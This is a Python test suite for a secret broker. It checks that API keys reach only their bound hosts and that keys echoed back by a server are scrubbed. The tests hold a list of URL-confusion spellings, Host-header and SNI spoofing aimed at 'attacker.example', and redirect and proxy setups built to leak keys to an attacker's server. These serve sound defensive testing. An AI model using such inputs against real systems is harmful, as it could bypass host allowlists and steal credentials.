"""Claims 21 and 22: whoever can say where a request goes, or answers it, wants the key."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from demo.forms import Needles
from tests.e2e.session import Session
from tests.support.fakebroker import Entry, FakeBroker
from tests.support.provider import Answer, Asked, Provider
from tests.support.session import python

_TEXT = (("content-type", "text/plain"),)


def _ok(asked: Asked) -> Answer:
    del asked
    return Answer(200, b"fine", _TEXT)


@pytest.fixture
def near() -> Iterator[Provider]:
    """The host that the secret names."""
    with Provider(_ok) as server:
        yield server


@pytest.fixture
def far() -> Iterator[Provider]:
    """The attacker's."""
    with Provider(_ok) as server:
        yield server


def _host(server: Provider) -> str:
    return f"127.0.0.1:{server.port}"


def _bind(home: Session, *hosts: str) -> str:
    """Store a key that may go to these hosts, and return it."""
    key = home.new_key()
    options = " ".join(f"--host {each}" for each in hosts)
    assert home.run(f"brokerctl secret set openai/dev {options}", key).status == 0
    return key


def _got(server: Provider, key: str) -> str | None:
    """Return the form in which a server was sent a key, if it was."""
    everything = "\n".join(
        f"{each.method} {each.target} {each.headers} {each.body!r}" for each in server.asked
    )
    return Needles([key]).find(everything.encode())


# Each case is a URL, and what else the attacker has a say in. The app prints how each ended.
_APP = """
import asyncio, json, os, sys
import httpx, httpx2

key = os.environ["OPENAI_API_KEY"]
cases = json.loads(sys.argv[1])
ends = []
for case in cases:
    for module in (httpx, httpx2):
        headers = {{"authorization": f"Bearer {{key}}", "x-api-key": key}}
        headers |= case.get("headers", {{}})
        client = {{"follow_redirects": True, **case.get("client", {{}})}}
        more = {{"headers": headers, "extensions": case.get("extensions", {{}})}}

        async def ask(url):
            async with module.AsyncClient(**client) as it:
                return await it.get(url, **more)

        for way in ("sync", "async"):
            try:
                if way == "async":
                    answer = asyncio.run(ask(case["url"]))
                else:
                    with module.Client(**client) as it:
                        answer = it.get(case["url"], **more)
                ends.append("refused" if "x-brokerctl" in answer.headers else answer.status_code)
            except Exception as error:
                ends.append(type(error).__name__)
print(json.dumps(ends))
""".replace("{{", "{").replace("}}", "}")


def _ends(home: Session, *cases: dict[str, Any], **env: str) -> list[Any]:
    home.script("app.py", _APP)
    words = json.dumps(cases).replace("'", "")
    done = home.run(f"brokerctl run python app.py '{words}'", env=env)
    assert done.status == 0, done
    ends: list[Any] = json.loads(done.stdout)
    assert len(ends) == 4 * len(cases)
    return ends


def test_claim_21_the_host_that_is_named_gets_the_key(home: Session, near: Provider) -> None:
    """The control of all that follows."""
    key = _bind(home, _host(near))
    assert _ends(home, {"url": f"http://{_host(near)}/"}) == [200] * 4
    assert _got(near, key) == "in clear"


def test_claim_21_no_spelling_of_another_host_gets_it(
    home: Session, near: Provider, far: Provider
) -> None:
    good, bad, port = _host(near), _host(far), far.port
    key = _bind(home, good)
    urls = [
        f"http://{bad}/",
        f"http://{good}@{bad}/",
        f"http://{good}:x@{bad}/",
        f"http://{bad}/@{good}",
        f"http://{bad}?@{good}/",
        f"http://{bad}#@{good}/",
        f"http://{bad}\\@{good}/",
        f"http://{good}.@{bad}/",
        f"http://{good}%2f@{bad}/",
        f"http://localhost:{port}/",
        f"http://LOCALHOST.:{port}/",
        f"http://127.0.0.1.:{port}/",
        f"http://127.1:{port}/",
        f"http://2130706433:{port}/",
        f"http://0x7f.0.0.1:{port}/",
        f"http://0177.0.0.1:{port}/",
        f"http://0:{port}/",
        f"http://[::1]:{port}/",
        f"http://[::ffff:127.0.0.1]:{port}/",
        f"http://[::ffff:7f00:1]:{port}/",
        f"http://\uff11\uff12\uff17.0.0.1:{port}/",
        f"http://127\u30020\u30020\u30021:{port}/",
    ]
    assert "refused" in _ends(home, *({"url": url} for url in urls))
    assert _got(far, key) is None


def test_claim_21_a_redirect_takes_the_reference_only(
    home: Session, near: Provider, far: Provider
) -> None:
    key = _bind(home, _host(near))
    statuses = (301, 302, 303, 307, 308)
    near.reply = lambda asked: Answer(int(asked.target[1:]), b"", (("location", far.url),))
    ends = _ends(home, *({"url": f"{near.url}/{status}"} for status in statuses))
    assert ends == ["refused"] * 20
    assert _got(near, key) == "in clear"
    assert _got(far, key) is None


def test_claim_21_no_other_name_in_the_request_leads_elsewhere(
    home: Session, near: Provider
) -> None:
    """Behind one address stand many names: a shared front hands a request on by what it reads."""
    key = _bind(home, _host(near))
    ends = _ends(
        home,
        {"url": near.url, "headers": {"host": "attacker.example"}},
        {"url": near.url, "headers": {"HOST": "attacker.example:443"}},
        {"url": near.url, "extensions": {"sni_hostname": "attacker.example"}},
        {"url": near.url, "extensions": {"target": "https://attacker.example/"}},
        {"url": near.url, "extensions": {"target": f"http://{_host(near)}@attacker.example/"}},
        {"url": near.url, "extensions": {"target": "attacker.example:443"}},
    )
    assert ends == ["refused"] * 24
    assert _got(near, key) is None
    fine = {"url": near.url, "headers": {"host": _host(near)}}
    ends = _ends(
        home,
        fine,
        {**fine, "extensions": {"target": "/elsewhere"}},
        {**fine, "extensions": {"target": f"{near.url}/elsewhere"}},
    )
    assert ends == [200] * 12


def test_claim_21_without_tls_it_goes_to_this_machine_only(home: Session) -> None:
    key = _bind(home, "api.openai.com", "192.0.2.1", "printer.local")
    hosts = ("api.openai.com", "192.0.2.1", "printer.local", "api.openai.com:443")
    assert set(_ends(home, *({"url": f"http://{host}/"} for host in hosts))) == {"refused"}
    assert key in home.keys


@pytest.mark.parametrize("variable", ["HTTP_PROXY", "all_proxy"])
def test_claim_21_in_clear_it_goes_through_no_proxy(
    home: Session, near: Provider, far: Provider, variable: str
) -> None:
    """What a proxy is sent for http://localhost is the whole request, key and all."""
    key = _bind(home, _host(near), f"localhost:{near.port}")
    cases = [{"url": near.url}, {"url": f"http://localhost:{near.port}/"}]
    assert _ends(home, *cases, **{variable: far.url}) == ["refused"] * 8
    assert _ends(home, {"url": near.url, "client": {"proxy": far.url}}) == ["refused"] * 4
    assert far.asked == []
    assert (
        _ends(home, *cases, **{variable: far.url, "NO_PROXY": "127.0.0.1,localhost"}) == [200] * 8
    )
    assert _got(near, key) == "in clear"


_LITELLM = """
import asyncio, litellm, os
async def ask(model):
    try:
        await litellm.acompletion(model=model, messages=[{"role": "user", "content": "x"}],
                                  api_key=os.environ["OPENAI_API_KEY"], max_retries=0)
    except Exception as error:
        print(type(error).__name__)
for model in ("openai/x", "anthropic/x"):
    asyncio.run(ask(model))
"""


_OWN_TRANSPORT = """
import httpx, os
sent = []

class Transport(httpx.BaseTransport):
    def handle_request(self, request):
        sent.append(request)
        return httpx.Response(200)

with httpx.Client(transport=Transport()) as client:
    print(client.get(f"http://{0}/", headers={{"x-api-key": os.environ["OPENAI_API_KEY"]}}), sent)
"""


def test_claim_21_nor_through_one_that_an_apps_own_transport_may_find(
    home: Session, near: Provider
) -> None:
    """Such a transport says nothing of its way; the environment does."""
    _bind(home, _host(near))
    home.script("app.py", _OWN_TRANSPORT.format(_host(near)))
    done = home.run("brokerctl run python app.py", env={"HTTP_PROXY": "http://192.0.2.1:3128"})
    assert done.stdout == "<Response [403 Forbidden]> []\n", done
    done = home.run("brokerctl run python app.py")
    assert done.stdout.startswith("<Response [200 OK]>"), done


@pytest.mark.slow
def test_claim_21_nor_through_the_proxy_that_litellm_finds_by_itself(
    home: Session, near: Provider, far: Provider
) -> None:
    """Its transport for aiohttp looks for proxies below the place where keys are put in."""
    key = _bind(home, _host(near))
    home.script("app.py", _LITELLM)
    env = {"HTTP_PROXY": far.url, "OPENAI_BASE_URL": near.url, "ANTHROPIC_BASE_URL": near.url}
    done = home.run("brokerctl run python app.py", env=env)
    assert done.status == 0, done
    assert (_got(far, key), _got(near, key)) == (None, None)


_TOKEN = """
import httpx, httpx2, sys
key, near, far = "brokerref:a/token", *sys.argv[1:]
places = [
    (near, {"x-api-key": key}, {}),
    (near, {"x-api-key": key, "authorization": "Bearer " + key, "x-beta": "own"}, {}),
    (near, {"x-api-key": key, "authorization": "Bearer of-another"}, {}),
    (near, {"x-api-key": key, "x-own": key}, {}),
    (near, {"x-api-key": key}, {"key": key}),
    (near + "/away", {"x-api-key": key}, {}),
    (far, {"x-api-key": key}, {}),
]
for module in (httpx, httpx2):
    with module.Client(follow_redirects=True) as client:
        for url, headers, params in places:
            answer = client.get(url, headers=headers, params=params)
            print("refused" if "x-brokerctl" in answer.headers else answer.status_code)
"""


def test_claim_21_a_token_stands_in_one_header_and_takes_the_others_to_no_other_host(
    tmp_path: Path, near: Provider, far: Provider
) -> None:
    key, beta = "token-canary-0123456789abcdef", "beta-canary"
    near.reply = lambda asked: Answer(
        307 if asked.target.startswith("/away") else 200, b"", (("location", far.url),)
    )
    with FakeBroker(tmp_path) as broker:
        hosts, headers = [_host(near)], {"x-beta": beta}
        broker.secrets["a/token"] = Entry(key, hosts=hosts, bearer=True, headers=headers)
        done = python(broker, "-c", _TOKEN, near.url, far.url)
    assert done.stdout.split() == ["200", "200", *["refused"] * 5] * 2, done.stderr
    assert far.asked == []
    assert len(near.asked) == 6
    for asked in near.asked:
        assert asked.headers["authorization"] == f"Bearer {key}"
        assert f"{asked.headers} {asked.target}".count(key) == 1
        assert asked.headers["x-beta"] in (beta, f"own,{beta}")


# 22. What comes back

_LOOK = """
import os, traceback
import httpx, httpx2

key = os.environ["OPENAI_API_KEY"]
for module in (httpx, httpx2):
    for path in {paths}:
        url = f"{url}/{{path}}"
        try:
            with module.Client() as client:
                answer = client.get(url, headers={{"authorization": f"Bearer {{key}}"}},
                                    params={{"key": key}})
            print(repr(answer), repr(answer.headers.raw), answer.text, repr(answer.extensions))
            print(repr(answer.request.headers.raw), str(answer.url), repr(answer.next_request))
            answer.raise_for_status()
        except Exception as error:
            parts = traceback.TracebackException.from_exception(error, capture_locals=True)
            print(str(error), repr(error), *parts.format())
"""


def _echo(asked: Asked) -> Answer:
    """Send the key back, in the way that the path names."""
    key = asked.headers["authorization"].removeprefix("Bearer ")
    basic = base64.b64encode(f"user:{key}".encode())
    ways = {
        "clear": Answer(401, f"bad key {key}".encode(), _TEXT),
        "json": Answer(403, json.dumps({"key": key}).replace("/", "\\/").encode(), _TEXT),
        "url": Answer(404, f"/v1?key={quote(key, safe='')}".encode(), _TEXT),
        "lower": Answer(400, quote(key, safe="").lower().encode() + key.encode(), _TEXT),
        "basic": Answer(429, b"Basic " + basic, _TEXT),
        "parts": Answer(500, [b"bad ", key[:20].encode(), key[20:].encode(), b"!"], _TEXT),
        "zipped": Answer(502, gzip.compress(key.encode()), (*_TEXT, ("content-encoding", "gzip"))),
        "header": Answer(401, b"", (("www-authenticate", f'Bearer error="{key}"'),)),
        "location": Answer(302, b"", (("location", f"/again?key={key}"),)),
        "fine": Answer(200, b"fine", (*_TEXT, ("x-you-sent", key))),
    }
    return ways[asked.target.partition("?")[0].strip("/")]


def test_claim_22_a_key_that_comes_back_is_scrubbed(home: Session, near: Provider) -> None:
    key = _bind(home, _host(near))
    near.reply = _echo
    paths = [
        "clear",
        "json",
        "url",
        "lower",
        "basic",
        "parts",
        "zipped",
        "header",
        "location",
        "fine",
    ]
    home.script("app.py", _LOOK.format(paths=paths, url=near.url))
    done = home.run("brokerctl run python app.py")
    assert done.status == 0, done
    assert _got(near, key) == "in clear"
    assert Needles([key]).find(done.stdout.encode()) is None
    assert done.stdout.count("bad key brokerref:openai/dev") >= 2
    assert "[401 Unauthorized]" in done.stdout
